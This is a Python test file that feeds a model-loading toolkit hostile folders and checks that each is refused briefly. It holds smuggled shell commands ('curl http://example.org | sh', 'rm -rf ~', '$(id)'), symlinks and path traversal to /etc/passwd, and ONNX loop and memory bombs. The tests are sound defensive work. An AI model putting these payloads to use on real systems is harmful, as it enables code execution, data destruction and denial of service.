"""Folders that a stranger made to do harm: each is refused by one sentence, soon, and without much memory."""

import json
import os
import re
import socket
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import save as save_arrays

from nlpkit.errors import NlpkitError
from nlpkit.model import graphs
from nlpkit.model.bundle import Bundle, save
from nlpkit.model.opening import load
from tests.outcomes import one_sentence
from tests.tasks.cloze.tiny import cloze_files
from tests.tasks.generate import tiny as tiny_generation
from tests.tiny import WORDS, component, model_files, sample, stage, table_member

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="the folders hold what only Unix has")
SECONDS, KILOBYTES = 15, 3 << 20  # of a processor, and of memory, that a refusal may take
CHECKING = """
import json, resource, sys, time
from nlpkit.errors import NlpkitError
from nlpkit.model import stored_files
from nlpkit.model.opening import load
stored_files._RELATIVE &= sys.argv[1] == "relative"
resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))
for folder in sys.argv[2:]:
    begin = time.process_time()
    try:
        said = f"passed: {load(folder).check()}"
    except NlpkitError as error:
        said = str(error)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps([said, time.process_time() - begin, peak]), flush=True)
"""
Change = Callable[[Path], object]
WEIGHTS = "characters/arrays.safetensors"
TERABYTE = 1 << 40


def put(path: str, data: bytes | str) -> Change:
    """Replace a file."""

    def change(folder: Path) -> None:
        (folder / path).unlink(missing_ok=True)
        (folder / path).parent.mkdir(exist_ok=True)
        (folder / path).write_bytes(data if isinstance(data, bytes) else data.encode())

    return change


def sparse(path: str, size: int, beginning: bytes = b"") -> Change:
    """Replace a file by one that takes no place on the disk."""

    def change(folder: Path) -> None:
        put(path, beginning)(folder)
        os.truncate(folder / path, size)

    return change


def instead(path: str, make: Callable[[str], object]) -> Change:
    """Put something that is no file in a file's place."""

    def change(folder: Path) -> None:
        (folder / path).unlink(missing_ok=True)
        make(str(folder / path))

    return change


def listening(path: str) -> None:
    """A socket; its name may be longer than a socket's own may be."""
    before = Path.cwd()
    os.chdir(Path(path).parent)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(Path(path).name)
    finally:
        os.chdir(before)


def device(path: str) -> None:
    """The zeros of /dev/zero, or, where nobody may make a device, a link to them."""
    try:
        os.mknod(path, 0o20666, os.makedev(1, 5))
    except PermissionError:
        Path(path).symlink_to("/dev/zero")


def link(target: str) -> Callable[[str], object]:
    return lambda path: Path(path).symlink_to(target)


def config(**changes: object) -> Change:
    """Replace entries of config.json."""
    return put("config.json", model_files(**changes)["config.json"])


def member(**changes: object) -> Change:
    """Replace entries of the only member's."""
    entry, _ = table_member()
    return config(members=[entry | changes])


def arrays(**changes: np.ndarray) -> Change:
    """Replace arrays of the table."""
    whole = {"table": np.zeros((len(WORDS) + 2, 1), np.float32), "bias": np.zeros(1)}
    return put(WEIGHTS, save_arrays(whole | changes))


def header(declared: object) -> bytes:
    """safetensors with a header of one's own."""
    text = declared if isinstance(declared, bytes) else json.dumps(declared).encode()
    return len(text).to_bytes(8, "little") + text


def declared(shape: list[int], end: int, begin: int = 0) -> dict:
    return {"dtype": "F32", "shape": shape, "data_offsets": [begin, end]}


DEEP = "[" * 200_000 + "]" * 200_000
HUGE = 5 << 30
FULL = b'{"table":{"dtype":"F32","shape":[131072000],"data_offsets":[0,524288000]}}  '  # and its numbers are zeros
FOLDERS: dict[str, list[Change]] = {
    "deep JSON": [
        put("config.json", DEEP),
        put("config.json", '{"format": 1, "task": ' + DEEP + "}"),
        put("samples.json", DEEP),
        put("evidence.json", '{"characters": ' * 100_000 + '""' + "}" * 100_000),
        put("characters/vocabulary.json", '{"kind": "table", "tokens": ' + DEEP + "}"),
        put("config.json", model_files()["config.json"][:-1] + b', "settings": ' + DEEP.encode() + b"}"),
    ],
    "huge JSON": [
        put("config.json", "[" + "[]," * 15_000_000 + "[]]"),
        put("samples.json", "[" + "[]," * 2_000_000 + "[]]"),
        put("evidence.json", '{"characters": "' + "好" * 12_000_000 + '", "words": []}'),
        put("characters/vocabulary.json", '{"kind": "table", "tokens": [' + "[]," * 10_000_000 + '""]}'),
        put("characters/vocabulary.json", '{"kind": "table", "tokens": [' + '"",' * 7_000_000 + '""]}'),
        put("config.json", '{"format": ' + "1" * 10_000_000 + "}"),
    ],
    "sparse files": [
        *(sparse(path, TERABYTE) for path in ("config.json", "evidence.json", "samples.json", WEIGHTS, "README.md")),
        sparse("characters/vocabulary.json", TERABYTE),
        sparse("characters/tokenizer/words.txt", TERABYTE),
    ],
    "huge files": [
        *(sparse(path, HUGE) for path in ("config.json", "evidence.json", "curve.png", WEIGHTS)),
        sparse(WEIGHTS, 500 << 20),
        sparse(WEIGHTS, (500 << 20) + 80, header(FULL)),
        sparse("characters/vocabulary.json", 30 << 20),
    ],
    "things that are no files": [
        instead("evidence.json", os.mkfifo),
        instead("config.json", os.mkfifo),
        instead("README.md", os.mkfifo),
        instead(WEIGHTS, listening),
        instead("samples.json", device),
        instead("characters/vocabulary.json", lambda path: Path(path).mkdir()),
    ],
    "links": [
        instead("README.md", link("/etc/passwd")),
        instead("config.json", link("/etc/passwd")),
        instead("samples.json", link("../other/samples.json")),
        instead("evidence.json", link("evidence.json")),
        instead("tokenizer", link("/etc")),
        instead("characters/tokenizer", link("/")),
        instead(WEIGHTS, link("/dev/zero")),
    ],
    "wrong types": [
        config(labels={"negative": 1}),
        config(labels=["positive", "positive"]),
        config(members="characters"),
        config(stages=[{"weights": [10**300], "temperature": 1, "exit": None}]),
        config(normalisation={"lower": "no"}),
        config(format=True),
        config(files=[1]),
        config(aliases=[["1", "positive"]]),
        member(max_length=-1),
        member(max_length=10**30),
        member(max_length="512"),
        member(tokenizer="char"),
        member(runtime="shell"),
        member(name=5),
        member(head=None),
    ],
    "numbers that are none": [
        arrays(table=np.full((len(WORDS) + 2, 1), np.nan, np.float32)),
        arrays(bias=np.array([np.inf])),
        arrays(table=np.zeros((len(WORDS) + 2, 1), np.uint8), levels=np.full((256, 1), -np.inf, np.float32)),
        config(stages=[{"weights": [float("nan")], "temperature": 1.0, "exit": None}]),
        config(stages=[{"weights": [1.0], "temperature": float("inf"), "exit": None}]),
        put("samples.json", '[{"text": "好", "label": "positive", "probabilities": {"positive": NaN, "negative": 0}}]'),
    ],
    "declared sizes": [
        put(WEIGHTS, header({"table": declared([1 << 40], 1 << 42)})),
        put(WEIGHTS, header({"table": declared([1 << 62, 1 << 62], 8)})),
        put(WEIGHTS, header({"table": declared([2], 8), "bias": declared([2], 8)}) + bytes(8)),
        put(WEIGHTS, (1 << 62).to_bytes(8, "little") + b"{}"),
        put(WEIGHTS, header({"table": declared([-1], 4)}) + bytes(4)),
        put(WEIGHTS, header(DEEP.encode())),
        put("characters/vocabulary.json", '{"kind": "hash", "bits": 26, "low": 1, "high": 8, "marks": true}'),
        put("characters/vocabulary.json", '{"kind": "hash", "bits": 1e9, "low": 1, "high": 8, "marks": true}'),
    ],
    "what does not fit": [
        put("characters/vocabulary.json", json.dumps({"kind": "table", "tokens": [*list(WORDS)[:-1], "好"]})),
        put("characters/vocabulary.json", json.dumps({"kind": "table", "tokens": [1] * len(WORDS)})),
        put("evidence.json", '{"characters": 5, "words": []}'),
        put("evidence.json", '{"characters": "好", "words": "好"}'),
        put("samples.json", '{"text": "好"}'),
    ],
    "too much": [
        lambda folder: [put(f"characters/tokenizer/{n}", b"")(folder) for n in range(130)],
        lambda folder: [put(f"characters/tokenizer/{n}", bytes(70_000))(folder) for n in range(300)],
        lambda folder: [sparse(f"characters/tokenizer/{n}", 500 << 20)(folder) for n in range(20)],
        lambda folder: (folder / "characters" / "/".join("a" * 40)).mkdir(parents=True),
    ],
}  # fmt: skip


def refusals(folders: list[Path], *, way: str = "relative") -> list[str]:
    """What is said of each folder by a process of its own, which must neither take long nor much memory."""
    command = [sys.executable, "-W", "error", "-c", CHECKING, way, *map(str, folders)]
    done = subprocess.run(command, capture_output=True, check=False, timeout=600)
    assert (done.returncode, done.stderr.decode()) == (0, "")
    found = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(found) == len(folders)
    assert max(seconds for _, seconds, _ in found) < SECONDS
    assert max(peak for *_, peak in found) < KILOBYTES
    return [said for said, *_ in found]


def hostile(tmp_path: Path, changes: list[Change], files: dict[str, bytes] | None = None) -> list[Path]:
    folders = [tmp_path / str(number) for number in range(len(changes))]
    for folder, change in zip(folders, changes, strict=True):
        save(folder, files or model_files(samples=[sample("好货")]))
        change(folder)
    return folders


WAYS = {"relative": list(FOLDERS), "by name": [kind for kind in FOLDERS if kind != "huge JSON"]}  # as on Unix, or not


@pytest.mark.parametrize(
    ("way", "kind"),
    [
        pytest.param(way, kind, marks=[pytest.mark.slow] if kind.startswith("huge") else [])
        for way, kinds in WAYS.items()
        for kind in kinds
    ],
)
def test_a_hostile_folder_is_refused_by_one_sentence(tmp_path, kind, way):
    folders = hostile(tmp_path, FOLDERS[kind])
    for folder, said in zip(folders, refusals(folders, way=way), strict=True):
        assert not said.startswith("passed")
        assert str(folder) in said
        assert "\n" not in said
        assert len(said) < 600 + len(str(folder))


def graph(nodes: list, initializers: list = (), inputs: list | None = None, **more: object) -> bytes:
    """A graph of a sentiment member's inputs and output."""
    onnx = pytest.importorskip("onnx")
    kinds, value = onnx.TensorProto, onnx.helper.make_tensor_value_info
    given = inputs or [value("ids", kinds.INT64, ["b", "t"]), value("mask", kinds.BOOL, ["b", "t"])]
    tensors = [t if isinstance(t, kinds) else onnx.numpy_helper.from_array(t[1], t[0]) for t in initializers]
    made = onnx.helper.make_graph(nodes, "hostile", given, [value("logits", kinds.FLOAT, None)], tensors)
    model = onnx.helper.make_model(
        made,
        opset_imports=[onnx.helper.make_opsetid(name, n) for name, n in (("", 18), ("own", 1), ("com.microsoft", 1))],
        **more,
    )
    model.ir_version = 9
    return model.SerializeToString()


def looping(turns: int) -> dict[str, bytes]:
    """Loops, of all kinds."""
    onnx = pytest.importorskip("onnx")
    node, kinds, value = onnx.helper.make_node, onnx.TensorProto, onnx.helper.make_tensor_value_info
    ends = [value("i", kinds.INT64, []), value("c", kinds.BOOL, []), value("x", kinds.FLOAT, [1])]
    body = onnx.helper.make_graph(
        [node("Identity", ["c"], ["c2"]), node("Add", ["x", "x"], ["x2"])],
        "body",
        ends,
        [value("c2", kinds.BOOL, []), value("x2", kinds.FLOAT, [1])],
    )
    numbers = [("n", np.array(turns)), ("t", np.array(True)), ("x0", np.ones(1, np.float32))]
    loop = node("Loop", ["n", "t", "x0"], ["logits"], body=body)
    inner = onnx.helper.make_graph([loop], "inner", [], [value("logits", kinds.FLOAT, [1])])
    branch = node("If", ["t"], ["logits"], then_branch=inner, else_branch=inner)
    scanned = onnx.helper.make_graph([node("Add", ["x", "x"], ["x2"])], "s", ends[2:], [value("x2", kinds.FLOAT, [1])])
    scan = [
        node("ConstantOfShape", ["n"], ["long"]),
        node("Scan", ["long"], ["logits"], body=scanned, num_scan_inputs=1),
    ]
    function = onnx.helper.make_function(
        "own", "Bomb", ["x"], ["y"], [node("Add", ["x", "x"], ["y"])], [onnx.helper.make_opsetid("", 18)]
    )
    return {
        "loop": graph([loop], numbers),
        "loop in a branch": graph([branch], numbers),
        "scan": graph(scan, [("n", np.array([turns, 1]))]),
        "loop without a limit": graph([node("Loop", ["", "t", "x0"], ["logits"], body=body)], numbers[1:]),
        "as many turns as it has numbers": graph(
            [
                node("Shape", ["ids"], ["two"]),
                node("ReduceProd", ["two"], ["few"], keepdims=0),
                node("Mul", ["few", "n"], ["many"]),
                node("Loop", ["many", "t", "x0"], ["logits"], body=body),
            ],
            numbers,
        ),
        "functions": graph([node("Bomb", ["x0"], ["logits"], domain="own")], numbers[2:], functions=[function]),
    }


def growing() -> dict[str, bytes]:
    """Sizes that are declared, or come of few numbers."""
    onnx = pytest.importorskip("onnx")
    node, one, wide = onnx.helper.make_node, ("o", np.ones(1, np.float32)), ("s", np.array([1 << 40]))
    doubled = [node("Concat", [f"x{i}", f"x{i}"], [f"x{i + 1}"], axis=0) for i in range(40)]
    large = onnx.TensorProto(dims=[1 << 40], data_type=1, name="w", raw_data=bytes(16))
    sizes = [onnx.helper.make_tensor_value_info("ids", onnx.TensorProto.INT64, [1 << 40, "t"])]
    return {
        "weights": graph([node("Identity", ["w"], ["logits"])], [large]),
        "constant": graph([node("ConstantOfShape", ["s"], ["logits"])], [wide]),
        "two dimensions": graph([node("ConstantOfShape", ["s"], ["logits"])], [("s", np.array([1 << 31, 1 << 31]))]),
        "expand": graph([node("Expand", ["o", "s"], ["logits"])], [one, ("s", np.array([1 << 32]))]),
        "tile": graph([node("Tile", ["o", "s"], ["logits"])], [one, wide]),
        "pad": graph([node("Pad", ["o", "s"], ["logits"])], [one, ("s", np.array([0, 1 << 33]))]),
        "range": graph(
            [node("Range", ["a", "b", "c"], ["logits"])],
            [(name, np.array(value, np.float32)) for name, value in (("a", 0), ("b", 2.0**34), ("c", 1))],
        ),
        "doubled": graph([node("Cast", ["ids"], ["x0"], to=1), *doubled, node("Identity", ["x40"], ["logits"])]),
        "drawn": graph([node("RandomNormal", [], ["logits"], shape=[1 << 33])]),
        "input": graph([node("Cast", ["ids"], ["logits"], to=1)], inputs=sizes),
    }


def outside() -> dict[str, bytes]:
    """Weights that lie elsewhere, and what no export of ours has."""
    onnx = pytest.importorskip("onnx")
    node, kinds = onnx.helper.make_node, onnx.TensorProto

    def elsewhere(location: str, **more: object) -> onnx.TensorProto:
        entry = onnx.StringStringEntryProto(key="location", value=location)
        return kinds(dims=[4], data_type=1, name="w", external_data=[entry], **more)

    identity = [node("Identity", ["w"], ["logits"])]
    sparse_weights = onnx.SparseTensorProto(dims=[1 << 40])
    sparse_weights.values.CopyFrom(onnx.numpy_helper.from_array(np.ones(1, np.float32), "w"))
    sparse_weights.indices.CopyFrom(onnx.numpy_helper.from_array(np.zeros(1, np.int64), "i"))
    made = onnx.load_from_string(graph(identity))
    made.graph.sparse_initializer.append(sparse_weights)
    return {
        "absolute": graph(identity, [elsewhere("/etc/passwd", data_location=1)]),
        "relative": graph(identity, [elsewhere("../../../../etc/passwd", data_location=1)]),
        "beside": graph(identity, [elsewhere("vocabulary.json", data_location=1)]),
        "said only once": graph(identity, [elsewhere("/etc/passwd")]),
        "in a node": graph([node("Constant", [], ["logits"], value=elsewhere("/etc/passwd", data_location=1))]),
        "sparse": made.SerializeToString(),
        "custom": graph([node("Evil", ["ids"], ["logits"], domain="evil")]),
        "own": graph([node("Evil", ["ids"], ["logits"], domain="own")]),
    }


def not_finite() -> dict[str, bytes]:
    """Weights that are no numbers, however they are written down."""
    onnx = pytest.importorskip("onnx")
    node, kinds = onnx.helper.make_node, onnx.TensorProto
    identity = [node("Identity", ["w"], ["logits"])]
    written = kinds(dims=[2], data_type=1, name="w", float_data=[1.0, float("nan")])
    inside = node("Constant", [], ["logits"], value_floats=[float("nan")] * 2)
    answer = onnx.helper.make_tensor_value_info("logits", kinds.FLOAT, [2])
    inner, truth = onnx.helper.make_graph([inside], "inner", [], [answer]), [("t", np.array(True))]
    return {
        "raw": graph(identity, [("w", np.array([1, np.nan], np.float32))]),
        "infinite": graph(identity, [("w", np.array([1, -np.inf], np.float32))]),
        "half": graph(identity, [("w", np.array([1, np.inf], np.float16))]),
        "double": graph(identity, [("w", np.array([1, np.nan], np.float64))]),
        "written": graph(identity, [written]),
        "one": graph(identity, [("w", np.array(np.nan, np.float32))]),
        "in a node": graph([node("Constant", [], ["logits"], value=written)]),
        "a node's number": graph([node("Constant", [], ["logits"], value_float=float("nan"))]),
        "a node's numbers": graph([node("Constant", [], ["logits"], value_floats=[1.0, float("nan")])]),
        "a node's infinite numbers": graph([node("Constant", [], ["logits"], value_floats=[1.0, -float("inf")])]),
        "numbers in a branch": graph([node("If", ["t"], ["logits"], then_branch=inner, else_branch=inner)], truth),
    }


def broken() -> dict[str, bytes]:
    """What is no ONNX, or is too much of it."""
    onnx = pytest.importorskip("onnx")
    whole = graph([onnx.helper.make_node("Cast", ["ids"], ["logits"], to=1)])
    return {
        "empty": b"",
        "cut": whole[: len(whole) // 2],
        "text": "好的".encode() * 1000,
        "zeros": bytes(1 << 20),
        "many": b"\x3a\x80\x80\x80\x08" + b"\x0a\x00" * (1 << 23),  # nodes of nothing
        "wide": b"\x3a" + b"\xff" * 20,
        "no inputs of ours": graph(
            [onnx.helper.make_node("Identity", ["w"], ["logits"])],
            inputs=[onnx.helper.make_tensor_value_info("w", onnx.TensorProto.STRING, ["b"])],
        ),
    }


LONG = ("loop", "loop in a branch", "loop without a limit", "as many turns as it has numbers")
WIDE = ("constant", "expand", "pad", "range", "doubled", "drawn")
TAKES = dict.fromkeys(LONG, "refused: it takes more than [25] seconds for one token$") | dict.fromkeys(
    WIDE, "refused: it takes more than (1536 megabytes|[25] seconds) for one token$"
)


def blocks() -> dict[str, bytes]:
    """Matrices in blocks that are not as large as their operators say, and other operators of the runtime's own."""
    onnx = pytest.importorskip("onnx")
    node, one = onnx.helper.make_node, np.ones(2, np.float16)
    start = [node("Cast", ["ids"], ["x"], to=1), node("Cast", ["half"], ["scales"], to=1)]
    numbers = {"codes": np.zeros((2, 1, 16), np.uint8), "half": one, "zeros": np.zeros(2, np.uint8)}

    def multiply(inputs: tuple = ("x", "codes", "scales"), more: dict | None = None, **sizes: object) -> bytes:
        sizes = {"K": 32, "N": 2, "bits": 4, "block_size": 32} | sizes
        nodes = [*start, node("MatMulNBits", inputs, ["logits"], domain="com.microsoft", **sizes)]
        return graph(nodes, list((numbers | (more or {})).items()))

    twice = onnx.load_from_string(multiply())
    twice.graph.node[2].attribute.append(onnx.helper.make_attribute("N", 1 << 16))
    inside = onnx.load_from_string(multiply()).graph
    del inside.input[:]
    truth = [("t", np.array(True))]
    return {
        "rows": multiply(N=1 << 16),
        "columns": multiply(K=1 << 16),
        "no rows": multiply(N=0),
        "fewer than none": multiply(N=-2, K=-32),
        "all rows": multiply(N=1 << 62),
        "bits": multiply(bits=8),
        "block": multiply(block_size=16),
        "block of nothing": multiply(block_size=0),
        "scales": multiply(more={"half": np.ones(1, np.float16)}),
        "codes of another kind": multiply(more={"codes": np.zeros((2, 1, 16), np.float32)}),
        "codes that are computed": multiply(("x", "x", "scales")),
        "zeros": multiply(("x", "codes", "scales", "zeros")),
        "two sizes": twice.SerializeToString(),
        "in a branch": graph([node("If", ["t"], ["logits"], then_branch=inside, else_branch=inside)], truth),
        "another operator": graph([*start, node("Gelu", ["x"], ["logits"], domain="com.microsoft")], [("half", one)]),
        "another domain": graph([*start, node("Gelu", ["x"], ["logits"], domain="own")], [("half", one)]),
    }


def endless() -> dict[str, bytes]:
    """Loops that would never end."""
    return looping(1 << 62)


@pytest.mark.parametrize(
    "kind",
    [*(pytest.param(kind, marks=pytest.mark.slow) for kind in (endless, growing)), outside, not_finite, blocks, broken],
)
def test_a_hostile_graph_is_refused_by_one_sentence(tmp_path, kind):
    entry, files = table_member()
    made = model_files((entry | {"runtime": "graph"}, files), samples=[sample("好货")])
    folders = hostile(tmp_path, [put("characters/model.onnx", data) for data in kind().values()], made)
    for name, folder, said in zip(kind(), folders, refusals(folders), strict=True):
        assert said.startswith(f"{folder}: characters/model.onnx is "), name
        assert re.search(f"model.onnx is {TAKES.get(name, 'damaged: ')}", said), name
        assert "\n" not in said
        assert len(said) < 600 + len(str(folder))


def test_the_time_of_day_has_a_longer_limit_than_that_of_a_processor(monkeypatch):
    monkeypatch.delattr(time, "pthread_getcpuclockid", raising=False)
    assert graphs._clock_of_this_thread() == (time.monotonic, 5.0)


def test_a_graph_that_holds_masks_and_infinite_constants_is_none_of_these(tmp_path):
    onnx = pytest.importorskip("onnx")
    node = onnx.helper.make_node
    numbers = [
        ("mask_of_two", np.array([[0, -np.inf], [0, 0]], np.float32)),
        ("none", np.array(-np.inf, np.float32)),
        ("w", np.array([[1.0, 2.0]], np.float32)),
    ]
    data = graph(
        [
            node("Max", ["mask_of_two", "none"], ["least"]),
            node("ReduceMax", ["least"], ["zero"], keepdims=0),
            node("Cast", ["mask"], ["there"], to=1),
            node("ReduceMax", ["there"], ["any"], keepdims=1),
            node("Mul", ["any", "w"], ["answer"]),
            node("Add", ["answer", "zero"], ["logits"]),
        ],
        numbers,
    )
    entry, files = table_member()
    save(tmp_path / "m", model_files((entry | {"runtime": "graph"}, files | {"characters/model.onnx": data})))
    assert load(tmp_path / "m").score(["好"])[0].label == "positive"


def test_what_the_system_holds_is_not_shown(run, tmp_path):
    (tmp_path / "secret").write_text("secret", encoding="utf-8")
    for number, target in enumerate([str(tmp_path / "secret"), "../secret", "/etc/passwd"]):
        (folder,) = hostile(tmp_path / str(number), [instead("README.md", link(target))])
        said = one_sentence(run("models", "show", folder), 1)
        assert "README.md is a link" in said


@pytest.mark.slow
def test_folders_of_other_tasks_are_refused_too(tmp_path):
    changes = [
        put("answers.json", '{"words": ["好"], "counts": [1.5]}'),
        put("answers.json", '{"words": [1], "counts": [1]}'),
        put("network/arrays.safetensors", save_arrays({"table": np.full((8, 8), np.nan, np.float32)})),
        put("network/vocabulary.json", '{"kind": "table", "tokens": ["a", "a"]}'),
        put("network/model.onnx", looping(1 << 62)["loop"]),
        put("config.json", cloze_files(stages="1")["config.json"]),
    ]  # fmt: skip
    assert all("\n" not in said for said in refusals(hostile(tmp_path, changes, cloze_files())))


def replaced(value: object, path: tuple, by: object) -> object:
    """A JSON value with one of its parts replaced."""
    if not path:
        return by
    key, *rest = path
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[key] = replaced(value[key], tuple(rest), by)
    return copy


def paths(value: object, at: tuple = ()) -> list[tuple]:
    """Where the parts of a JSON value are."""
    keys = value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    return [*([at] if at else []), *(path for key in keys for path in paths(value[key], (*at, key)))]


ODD = (None, -1, 0.5, 10**400, float("nan"), "好", [], ["a", 1], {}, {"a": [1]}, True)


def changes_of(
    files: dict[str, bytes], among: Callable[[tuple], bool] = bool
) -> Iterator[tuple[tuple, dict[str, bytes]]]:
    """A model with each entry of its config replaced by each of the odd ones, and which entry that was."""
    whole = json.loads(files["config.json"])
    for path in filter(among, paths(whole)):
        for odd in ODD:
            yield path, files | {"config.json": json.dumps(replaced(whole, path, odd)).encode()}


MODELS = {
    "tables": lambda: model_files(
        table_member("one"), table_member("two"), stages=[stage(1.0, leave=0.9), stage(1.0, 1.0)]
    ),
    "network": cloze_files,
    "ngrams": lambda: dict(tiny_generation.bundle().files),
}


@pytest.mark.parametrize("made", MODELS)
def test_any_entry_of_a_config_may_be_anything(made):
    """It is used as it is, as in what nobody reads, or refused by one sentence."""
    found = Counter()
    for path, files in changes_of(MODELS[made]()):
        said = refusal(Bundle("changed", files))
        assert "\n" not in said, path
        found[bool(said)] += 1
    assert found[True] > found[False] / 2


def test_a_state_of_any_shape_is_refused_by_one_sentence():
    whole = load("reviews-chars").bundle
    files = {path: whole.read(path) for path in whole.files}
    changed = changes_of(files, lambda path: path[2:3] == ("state",))
    found = [refusal(Bundle("changed", each)) for _, each in changed if each != files]
    assert not any("\n" in said for said in found)
    same = len(whole.config["members"][0]["state"])  # -1 in the place of -1
    assert sum(map(bool, found)) == len(found) - same > 50


def refusal(bundle: Bundle) -> str:
    """Why a model cannot be opened and asked, nothing if it can."""
    try:
        load_from(bundle).warm()
    except NlpkitError as error:
        return str(error)
    return ""


def load_from(bundle: Bundle):
    from nlpkit.tasks.cloze.model import ClozeModel
    from nlpkit.tasks.generate.model import GenerationModel
    from nlpkit.tasks.sentiment.model import SentimentModel

    kinds = {kind.task: kind for kind in (SentimentModel, ClozeModel, GenerationModel)}
    task = bundle.config["task"]
    return kinds.get(task if isinstance(task, str) else "", SentimentModel)(bundle)


COMMANDS = [
    ("x; curl http://example.org | sh", "0.1"),
    ("x", "0.1; curl http://example.org | sh"),
    ("x\nrm -rf ~", "0.1"),
    ("--index-url=http://example.org", "0.1"),
    ("x' 'y", "$(id)"),
    ("`id`", "0.1"),
]


@pytest.mark.parametrize(("distribution", "version"), COMMANDS)
def test_a_command_holds_only_names_that_there_can_be(run, tmp_path, distribution, version):
    foreign = component("runs", distribution=distribution, version=version)
    save(tmp_path / "m", model_files(table_member(tokenizer=foreign)))
    said = one_sentence(run("sentiment", "score", "-t", "好", "-m", tmp_path / "m"), 1)
    assert "pip" not in said
    assert distribution not in said or distribution == "x"
    assert version not in said or version == "0.1"
